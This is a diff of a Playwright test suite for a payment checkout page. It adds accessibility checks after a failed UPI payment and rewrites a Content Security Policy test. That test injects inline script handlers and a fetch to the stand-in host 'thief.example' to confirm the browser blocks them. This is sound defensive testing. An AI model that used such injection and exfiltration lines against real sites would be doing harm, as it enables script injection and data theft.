@@ -31,11 +31,17 @@ class Tab:
         self.problems: list[str] = []
         self.requests: list[Request] = []
         page.set_default_timeout(WAIT_MS)
-        page.expose_function("tell", lambda said: self.problems.append(said))
+        page.expose_function("tell", self._told)
         page.add_init_script(TELL)
         page.on("pageerror", lambda error: self.problems.append(str(error)))
         page.on("console", self._said)
-        page.on("request", lambda request: self.requests.append(request))
+        page.on("request", self._asked)
+
+    def _told(self, problem: str) -> None:
+        self.problems.append(problem)
+
+    def _asked(self, request: Request) -> None:
+        self.requests.append(request)
 
     def _said(self, message: Any) -> None:
         if message.type in {"error", "warning"} and message.location["url"].startswith(self.service.url):
@@ -248,6 +254,10 @@ def test_a_customer_who_closes_the_window_after_a_failure_may_open_it_again(serv
     payment = tab.open(service.create(50_000, "INR"))
     tab.button.click()
     expect(tab.button).to_be_disabled()
+    tab.page.keyboard.press("Escape")
+    expect(tab.button).to_be_focused()
+    expect(tab.alert).to_be_empty()
+    tab.button.click()
     tab.pay_by_upi("failure@razorpay")
     expect(tab.page.get_by_role("dialog").get_by_role("alert")).to_contain_text("try again")
     tab.page.keyboard.press("Escape")
@@ -308,9 +318,10 @@ def test_the_customer_may_stay(service, tab):
 # What can go wrong with a page
 
 
-def test_a_script_that_is_not_ours_does_not_run(service, tab):
+def test_a_script_that_is_not_ours_does_not_run_and_nothing_is_sent_elsewhere(service, tab):
     tab.open(service.create())
-    blocked = tab.page.evaluate(
+    ours_unasked = f"{service.url}/static/checkout/result.js"
+    stolen, blocked = tab.page.evaluate(
         """async (address) => {
           const blocked = [];
           addEventListener("securitypolicyviolation", (event) => blocked.push(event.blockedURI));
@@ -319,18 +330,17 @@ def test_a_script_that_is_not_ours_does_not_run(service, tab):
             script[name] = value;
             document.body.append(script);
           }
-          document.body.insertAdjacentHTML("beforeend", '<img src="x:" onerror="window.stolen = 2">');
+          document.body.insertAdjacentHTML("beforeend", '<p style="color: red" onclick="window.stolen = 2">x</p>');
+          document.body.lastElementChild.click();
           await fetch("https://thief.example/").catch(() => {});
           await new Promise((done) => setTimeout(done, 100));
           return [window.stolen ?? null, blocked];
         }""",
-        f"{service.url}/static/checkout/result.js",
+        ours_unasked,
     )
-    assert blocked == [
-        None,
-        ["inline", f"{service.url}/static/checkout/result.js", "x", "https://thief.example/", "inline"],
-    ] or (blocked[0] is None and {"inline", "https://thief.example/"} <= set(blocked[1]))
-    tab.problems.clear()
+    assert stolen is None
+    assert sorted(blocked) == sorted([ours_unasked, "https://thief.example/", "inline", "inline", "inline"])
+    tab.problems.clear()  # the browser tells of each
 
 
 def test_without_the_gateways_script_the_page_says_so(service, tab):
